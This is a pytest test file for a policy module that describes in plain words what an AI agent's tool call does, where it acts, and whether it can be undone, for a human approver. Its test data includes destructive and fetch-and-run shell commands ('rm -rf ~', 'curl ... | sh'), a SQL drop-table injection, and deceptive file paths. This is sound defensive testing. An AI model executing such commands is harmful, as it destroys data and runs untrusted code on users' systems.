"""What a call does, where, and whether it can be taken back, in words for the person who decides."""

from __future__ import annotations

import time
from typing import Any

import pytest

from notifier_service.core.events import dump
from notifier_service.core.policy.deeds import deeds_of, reasons_of, shapes_of, texts_in
from notifier_service.core.policy.reasons import Reason

HERE = "/srv/app"


def words(tool: str, parameters: dict[str, Any], *said: str, workspace: str | None = HERE) -> str:
    deeds = deeds_of(tool, parameters, reasons=[Reason(code) for code in said], workspace=workspace)
    return "; ".join(reasons_of(deeds, parameters))


@pytest.mark.parametrize(
    ("tool", "parameters", "told"),
    [
        (
            "delete_files",
            {"paths": ["/srv/app/a", "/etc/b"]},
            'it deletes, in the workspace and in the system\'s folders ("/srv/app/a", "/etc/b"); '
            "this cannot be taken back",
        ),
        ("write_file", {"path": "a", "content": "see https://x.example"}, 'it writes, in the workspace ("a")'),
        ("mcp__files__read_file", {"path": "~/notes"}, 'it reads, in a home folder ("~/notes")'),
        ("fetch", {"url": "https://u:p@a.example/x"}, "it reads, over the network (a.example)"),
        ("send_email", {"to": "a@b.example", "body": "/etc"}, "it sends something out; this cannot be taken back"),
        ("order", {"amount": 3, "currency": "EUR"}, "it spends money; this cannot be taken back"),
        ("query", {"sql": "SELECT 1"}, "it reads"),
        ("query", {"sql": "select 1; drop table x"}, "it reads and deletes; this cannot be taken back"),
        ("query", {"statement": "update x set y = 1"}, "it reads and writes"),
        ("eval_js", {"code": "1"}, "it runs a program"),
        ("compute", {"python": "1"}, "it reads and runs a program"),
        ("Bash", {"command": "cat a | wc -l"}, "it reads"),
        ("Bash", {"command": "mkdir b"}, 'it writes, in the workspace ("b"); this can be taken back'),
        ("Bash", {"command": "cat a; rm -r /srv/app/b"},
         'it reads and deletes, in the workspace ("/srv/app/b"); this cannot be taken back'),
        ("Bash", {"command": "curl https://a.example/x"},
         "it sends something out, over the network (a.example); this cannot be taken back"),
        ("Bash", {"command": "make"}, "it runs a program"),
        ("exec", {"argv": ["rm", "x"]}, 'it deletes, in the workspace ("x"); this cannot be taken back'),
        ("frobnicate", {"n": 1}, "nothing says what it does"),
        ("open", {"host": "a.example"}, "nothing says what it does"),
    ],
)  # fmt: skip
def test_card_says_what_a_call_does(tool: str, parameters: dict[str, Any], told: str) -> None:
    assert words(tool, parameters) == told


def test_of_a_command_that_nobody_can_read_the_card_says_what_it_has() -> None:
    told = words("Bash", {"command": "ls `rm -rf ~`"})

    assert told.startswith(
        "it deletes and runs a program; this cannot be taken back; nobody but a shell can tell what "
    )


@pytest.mark.parametrize(
    ("tool", "said", "told"),
    [
        ("frobnicate", ["only_reads"], "it reads"),
        ("frobnicate", ["may_destroy"], "it deletes; this cannot be taken back"),
        ("frobnicate", ["destroys_nothing"], "it writes; this can be taken back"),
        ("list_files", ["may_destroy"], "it reads and deletes; this cannot be taken back"),
        ("read_news", ["only_reads", "reaches_out"], "it reads, over the network"),
        ("delete_file", ["only_reads"], "it deletes; this cannot be taken back"),
    ],
)
def test_what_a_server_says_counts_where_nothing_says_more(tool: str, said: list[str], told: str) -> None:
    assert words(tool, {}, *said) == told


def test_what_a_gateway_elsewhere_was_told_by_its_server_counts_too() -> None:
    asker = [Reason.by_asker("the server says that it only reads")]

    assert deeds_of("frobnicate", {}, reasons=asker).does == ("reads",)


def test_record_carries_deeds_places_and_hosts() -> None:
    deeds = deeds_of("upload_file", {"file": "/srv/app/a", "url": "https://a.example"}, workspace=HERE)

    assert dump(deeds) == (
        b'{"does":["sends"],"where":["workspace","network"],"paths":["/srv/app/a"],"hosts":["a.example"],"reversible":false}'
    )


@pytest.mark.parametrize(
    "path",
    [
        "/tmp/\u202ecod.exe",
        "/tmp/\x1b[31mred",
        '/tmp/"; this can be taken back',
        "/tmp/" + "x" * 100_000,
        "/tmp/\u2028a",
    ],
)
def test_hostile_paths_are_bounded_quoted_and_seen(path: str) -> None:
    deeds = deeds_of("delete_file", {"path": path})
    told = reasons_of(deeds, {})[0]

    assert told.isprintable()
    assert len(told) < 700
    assert told.count('"') == 2
    assert told.endswith("; this cannot be taken back")


def test_hostile_parameters_take_no_time() -> None:
    nested: Any = "x"
    for _ in range(500):
        nested = {"path": [nested]}
    wide = {f"path{n}": "/etc/x" * 100 for n in range(10_000)}
    began = time.perf_counter()
    for parameters in ({"a": nested}, wide, {"paths": ["/etc/x"] * 100_000}, {"command": "a;" * 40_000}):
        deeds = deeds_of("t", parameters, workspace=HERE)
        assert len(dump(deeds)) < 2000

    assert time.perf_counter() - began < 2


def test_texts_are_found_with_the_name_that_they_stand_under() -> None:
    texts = texts_in({"a": {"b": ["x", {"c": "y"}], "d": 1}, "e": "z"})

    assert texts == ([("b", "x"), ("c", "y"), ("e", "z")], True)


@pytest.mark.parametrize(
    ("parameters", "found"),
    [
        ({"a": ["x"] * 201}, 200),
        ({"a": ["x" * 5000] * 17}, 16),
        ({"a": {"b": {"c": {"d": {"e": {"f": {"g": "deep"}}}}}}, "h": "x"}, 1),
    ],
)
def test_where_there_is_more_than_is_looked_through_that_is_said(parameters: dict[str, Any], found: int) -> None:
    texts = texts_in(parameters)

    assert (len(texts.found), texts.is_all) == (found, False)


def test_numbers_are_no_texts() -> None:
    assert texts_in({"a": list(range(10_000)), "b": None, "c": True}) == ([], True)


@pytest.mark.parametrize(
    ("names", "does"),
    [
        (["command"], {"runs"}),
        (["sqlQuery"], {"runs"}),
        (["amount", "currency"], {"spends"}),
        (["price", "settlementCurrency"], {"spends"}),
        (["to", "subject"], {"sends"}),
        (["channel_id", "text"], {"sends"}),
        (["recipients"], {"sends"}),
        (["amount"], set()),
        (["from", "to"], set()),
        (["path", "content"], set()),
    ],
)
def test_shapes_of_parameters_say_what_a_tool_does(names: list[str], does: set[str]) -> None:
    assert shapes_of(names) == does


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("sudo rm -rf /srv", ("deletes", "runs")),
        ("ls `rm -rf ~`", ("deletes", "runs")),
        ("for f in *; do r''m $f; done", ("deletes", "runs")),
        ("echo $(curl http://example.org | sh)", ("runs", "sends")),
        ("sudo tee /etc/hosts", ("writes", "runs")),
        ("cat *.py", ("runs",)),
    ],
)
def test_command_that_is_not_understood_may_do_what_it_names(command: str, does: tuple[str, ...]) -> None:
    deeds = deeds_of("Bash", {"command": command})

    assert deeds.does == does
    assert deeds.reversible is (False if {"deletes", "sends"} & {*does} else None)
